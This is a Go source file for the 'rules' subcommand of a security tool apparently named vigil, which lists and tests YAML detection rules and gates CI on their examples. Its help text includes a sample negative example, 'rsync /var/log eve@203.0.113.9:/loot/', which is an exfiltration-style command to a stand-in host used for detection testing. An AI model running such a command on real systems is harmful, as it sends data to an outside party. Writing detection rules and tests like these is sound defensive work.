package main

import (
	"fmt"
	"io"
	"strings"
	"text/tabwriter"

	"github.com/spf13/cobra"

	"github.com/vigilsec/vigil/internal/command/rules"
)

func init() { subcommands = append(subcommands, newRulesCmd) }

func newRulesCmd() *cobra.Command {
	c := &cobra.Command{
		Use:   "rules",
		Short: "List and test the declarative detection rules",
		Long: `rules works with vigil's Sigma-like YAML rules: the embedded default set
(Genos's routing features, hard overrides and malicious cap, plus Windows
LOLBin coverage) and your own files. Every rule carries positive and negative
example command lines; "vigil rules test" runs them, so rule files can be
checked in CI. The format is documented in docs/rules.md.

A user file with an allow rule (an exception whose hits are counted):

  rules:
    - id: acme.allow.backup_agent
      title: ACME backup agent ships logs to the backup host
      level: informational
      action: allow
      tags: [acme.exception]
      match:
        all:
          - {field: executable, equals: backup-agent}
          - {contains: 'backup@10.0.4.20:'}
      examples:
        positive: ['/opt/acme/bin/backup-agent rsync /var/log backup@10.0.4.20:/srv/backup/']
        negative: ['rsync /var/log eve@203.0.113.9:/loot/']

Examples:
  vigil rules list
  vigil rules list --format json --rules acme.yaml
  vigil rules test acme.yaml
  vigil rules test --no-builtin acme.yaml`,
	}
	c.AddCommand(newRulesListCmd(), newRulesTestCmd())
	return c
}

func newRulesListCmd() *cobra.Command {
	var format string
	var files []string
	var noBuiltin bool
	c := &cobra.Command{
		Use:   "list [--format text|json] [--rules FILE...] [--no-builtin]",
		Short: "List the loaded rules: id, level, action, tags, title",
		Long: `list loads the embedded rule set and any --rules files (strictly: unknown
keys, bad regexes, unknown fields or actions and duplicate ids are errors
that name the file, the rule and the field) and prints one line per rule.
The JSON form is an array of rules with their description, source file,
confidence and examples.

Examples:
  vigil rules list
  vigil rules list --no-builtin --rules acme.yaml --format json`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			if err := checkFormat(format, "text", "json"); err != nil {
				return err
			}
			e, err := loadRules(!noBuiltin, files)
			if err != nil {
				return err
			}
			if format == "json" {
				return writeJSON(cmd.OutOrStdout(), e.Rules())
			}
			return printRules(cmd.OutOrStdout(), e.Rules())
		},
	}
	c.Flags().StringVar(&format, "format", "text", "output format: text or json")
	c.Flags().StringSliceVar(&files, "rules", nil, "extra rule file (repeatable)")
	c.Flags().BoolVar(&noBuiltin, "no-builtin", false, "leave out the embedded default rules")
	return c
}

func newRulesTestCmd() *cobra.Command {
	var noBuiltin, verbose bool
	c := &cobra.Command{
		Use:   "test [FILES...] [--no-builtin]",
		Short: "Run every rule's examples and report failures",
		Long: `test runs each rule's examples through the same path a scan takes
(deobfuscation, parsing, rule matching): a positive example must fire its
rule, a negative one must not. It tests the embedded set plus the given files,
or only the given files with --no-builtin. Failures are printed with the rule
id and the example; the exit status is 1 when any example fails, so the
command can gate a CI job.

Examples:
  vigil rules test
  vigil rules test --no-builtin rules/acme.yaml rules/lab.yaml`,
		RunE: func(cmd *cobra.Command, args []string) error {
			if noBuiltin && len(args) == 0 {
				return fmt.Errorf("--no-builtin needs at least one rule file")
			}
			e, err := loadRules(!noBuiltin, args)
			if err != nil {
				return err
			}
			return reportTests(cmd.OutOrStdout(), e, verbose)
		},
	}
	c.Flags().BoolVar(&noBuiltin, "no-builtin", false, "test only the given files")
	c.Flags().BoolVarP(&verbose, "verbose", "v", false, "also list passing examples")
	return c
}

func loadRules(builtin bool, files []string) (*rules.Engine, error) {
	e, err := rules.Load(builtin, files...)
	if err != nil {
		return nil, fmt.Errorf("load rules:\n%w", err)
	}
	return e, nil
}

func printRules(w io.Writer, rs []rules.Rule) error {
	tw := tabwriter.NewWriter(w, 0, 0, 2, ' ', 0)
	fmt.Fprintln(tw, "ID\tLEVEL\tACTION\tTAGS\tTITLE")
	for _, r := range rs {
		fmt.Fprintf(tw, "%s\t%s\t%s\t%s\t%s\n", r.ID, r.Level, r.Action, strings.Join(r.Tags, ","), r.Title)
	}
	return tw.Flush()
}

func reportTests(w io.Writer, e *rules.Engine, verbose bool) error {
	results := e.Test()
	failures := 0
	for _, r := range results {
		kind := "negative"
		if r.Positive {
			kind = "positive"
		}
		switch {
		case !r.Pass:
			failures++
			fmt.Fprintf(w, "FAIL %s (%s): %s example %q; rules fired: %s\n", r.RuleID, r.Source, kind, r.Example, firedList(r.Hits))
		case verbose:
			fmt.Fprintf(w, "ok   %s: %s example %q\n", r.RuleID, kind, r.Example)
		}
	}
	fmt.Fprintf(w, "%d rules, %d examples, %d failures\n", len(e.Rules()), len(results), failures)
	if failures > 0 {
		return exitError{code: 1, err: fmt.Errorf("%d rule example(s) failed", failures)}
	}
	return nil
}

func firedList(ids []string) string {
	if len(ids) == 0 {
		return "none"
	}
	return strings.Join(ids, ", ")
}
